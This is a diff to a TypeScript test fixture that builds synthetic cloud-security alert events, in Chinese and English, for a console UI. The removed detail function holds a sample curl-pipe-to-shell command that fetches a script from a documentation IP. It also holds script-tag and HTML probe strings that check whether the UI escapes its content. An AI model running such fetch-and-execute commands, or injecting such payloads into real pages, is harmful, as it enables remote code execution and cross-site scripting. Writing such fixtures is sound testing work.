@@ -1,5 +1,5 @@
 // Generated events, each made from its number alone, so that a million of them cost no memory.
-import type { EventDetail, EventRow, Language } from "../../src/wire/types";
+import type { EventRow, Language } from "../../src/wire/types";
 import { LEVELS, RESULT_CODES, STATUSES, TYPES } from "./words";
 
 const NAMES: [string, string][] = [
@@ -49,10 +49,13 @@ export const idOf = (row: number) => String(9_007_199_254_740_993n + BigInt(1_00
 export const cloudText = (time: number) =>
   new Date(time + 8 * 3_600_000).toISOString().slice(0, 19).replace("T", " ");
 
-const privateIp = (row: number) => `172.16.${mix(row, 7) % 256}.${mix(row, 8) % 254}`;
-const publicIp = (row: number) => `203.0.113.${mix(row, 9) % 254}`;
+/** The moment of a text in the cloud's zone. */
+export const momentOf = (text: string) => Date.parse(`${text.replace(" ", "T")}+08:00`);
 
-function cell(row: number, column: string, language: Language): string {
+const privateIp = (row: number) => `172.16.${mix(row, 7) % 256}.${mix(row, 8) % 254}`;
+export const publicIp = (row: number) => `203.0.113.${mix(row, 9) % 254}`;
+
+export function cell(row: number, column: string, language: Language): string {
   const pick = (pair: { zh: string; en: string }) => pair[language];
   const [zh, en] = nameOf(row);
   switch (column) {
@@ -108,91 +111,4 @@ export function rowOf(row: number, columns: string[], language: Language): Event
 
 export function rowNumber(id: string): number {
   return 1_000_000 - Number(BigInt(id) - 9_007_199_254_740_993n);
-}
-
-export function detailOf(row: number, language: Language): Omit<EventDetail, "review"> {
-  const text = (zh: string, en: string) => (language === "zh" ? zh : en);
-  const at = (column: string) => cell(row, column, language);
-  const raw = {
-    Id: idOf(row),
-    Name: nameOf(row)[0],
-    Level: levelOf(row).value,
-    EventStatus: Number(statusOf(row).value),
-    LastTime: at("lastTime"),
-    InternetIp: publicIp(row),
-    Details: [{ NameDisplay: "路径", Value: "/etc/crontab", Type: "text" }],
-    Desc: "<script>alert('x')</script>",
-  };
-  return {
-    key: { id: idOf(row), account: "1960721413480001" },
-    title: at("name"),
-    level: levelOf(row).value,
-    levelWords: levelOf(row)[language],
-    statusWords: statusOf(row)[language],
-    description: text(
-      "检测到服务器上的计划任务执行了可疑指令，攻击者可能借此保持权限。请检查该计划任务，并确认是否为正常业务。<script>alert('x')</script>",
-      "A scheduled task on the server ran a suspicious command; an attacker may use it to stay. Check the task and whether it belongs to normal work. <script>alert('x')</script>",
-    ),
-    event: [
-      { name: "AlarmEventType", label: text("告警类型", "Alert type"), value: at("alarmEventType") },
-      { name: "EventSubType", label: text("告警名称", "Alert name"), value: at("eventSubType") },
-      { name: "LastTime", label: text("最近发生时间", "Last occurred"), value: at("lastTime") },
-      { name: "OccurrenceTime", label: text("首次发生时间", "First occurred"), value: at("occurrenceTime") },
-      { name: "OperateTime", label: text("处理时间", "Handled at"), value: at("operateTime") },
-      { name: "OperateErrorCode", label: text("处理结果", "Handling result"), value: at("operateErrorCode") },
-    ],
-    asset: [
-      { name: "InstanceName", label: text("资产名称", "Asset name"), value: at("instanceName") },
-      { name: "InternetIp", label: text("公网 IP", "Public IP"), value: at("internetIp") },
-      { name: "IntranetIp", label: text("私网 IP", "Private IP"), value: at("intranetIp") },
-      { name: "Uuid", label: "UUID", value: "18b7336e-d469-473b-af83-8e5420f9a1b2" },
-      { name: "GroupName", label: text("资产组", "Asset group"), value: at("groupName") },
-    ],
-    container:
-      row % 3 === 0
-        ? [
-            { name: "K8sNamespace", label: text("命名空间", "Namespace"), value: "default" },
-            {
-              name: "ContainerImageName",
-              label: text("镜像", "Image"),
-              value:
-                "registry.example.com/shop/order:v1.4.2@sha256:3f5ad1b9c7e0f2d4a6b8c0e2f4a6b8d0c2e4f6a8b0d2c4e6f8a0b2d4c6e8f0a2",
-            },
-          ]
-        : [],
-    details: [
-      { name: text("文件路径", "File path"), value: "/etc/crontab" },
-      {
-        name: text("命令行", "Command line"),
-        value: "curl -fsSL http://203.0.113.9/x.sh | sh\n<b>not bold</b>",
-      },
-      { name: "MD5", value: "d41d8cd98f00b204e9800998ecf8427e" },
-    ],
-    notes: [{ name: "2026-11-21 18:20:11", value: text("已联系业务方确认", "Owner was asked") }],
-    tactics: [{ name: "TA0003", value: text("持久化", "Persistence") }],
-    other: [
-      { name: "DataSource", label: text("数据来源", "Data source"), value: "aegis_suspicious_event" },
-      { name: "CanBeDealOnLine", label: text("可在线处理", "Can be handled online"), value: "true" },
-    ],
-    history: [
-      {
-        field: text("状态", "Status"),
-        before: text("待处理", "Pending"),
-        after: statusOf(row)[language],
-        when: "2026-11-22 10:11:04",
-        run: 19,
-      },
-      {
-        field: text("备注", "Note"),
-        before: "",
-        after: text("已联系业务方确认 <i>", "Owner was asked <i>"),
-        when: "2026-11-21 18:20:30",
-        run: 15,
-      },
-    ],
-    firstSeen: "2026-11-21 18:02:09",
-    gone: markOf(row) === "gone" ? "2026-11-22 10:11:05" : null,
-    raw: JSON.stringify(raw, null, 2),
-    rawOtherLanguage: row % 2 === 0 ? JSON.stringify({ ...raw, Name: nameOf(row)[1] }, null, 2) : null,
-  };
 }
